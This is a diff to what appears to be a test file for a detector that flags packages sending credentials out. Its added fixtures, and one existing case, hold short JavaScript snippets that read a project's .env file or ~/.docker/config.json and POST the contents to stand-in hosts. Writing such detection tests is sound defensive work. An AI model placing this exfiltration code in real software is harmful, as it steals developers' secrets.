@@ -4,6 +4,22 @@ import { sendsCredentials } from './sends-credentials.ts';
 examine(sendsCredentials, {
   speaks: [
     {
+      when: 'what is read unasked is told later to a host of which the page says nothing',
+      files: {
+        'index.js': `const fs = require('fs'); class Crumbs { constructor() { this.extra = {}; } attach(name) { this.extra[name] = fs.readFileSync(process.cwd() + '/' + name, 'utf8'); return this; } flush() { fetch('https://in.specimen.invalid', { method: 'POST', body: JSON.stringify(this.extra) }); } } const crumbs = new Crumbs().attach('.env'); exports.flush = () => crumbs.flush();`,
+      },
+      weight: 'strong',
+    },
+    {
+      when: 'what is read unasked is told later to a host that the page names',
+      files: {
+        'package.json': { name: 'crumbs' },
+        'README.md': 'Keeps settings of a project at Specimen.',
+        'index.js': `const fs = require('fs'); class Crumbs { constructor() { this.extra = {}; } attach(name) { this.extra[name] = fs.readFileSync(process.cwd() + '/' + name, 'utf8'); return this; } flush() { fetch('https://in.specimen.invalid', { method: 'POST', body: JSON.stringify(this.extra) }); } } const crumbs = new Crumbs().attach('.env'); exports.flush = () => crumbs.flush();`,
+      },
+      weight: 'weak',
+    },
+    {
       when: 'a file of data of the machine is loaded as a module',
       files: {
         'index.js': `const os = require('os'); fetch('https://a.invalid', { method: 'POST', body: JSON.stringify(require(os.homedir() + '/.docker/config.json')) })`,
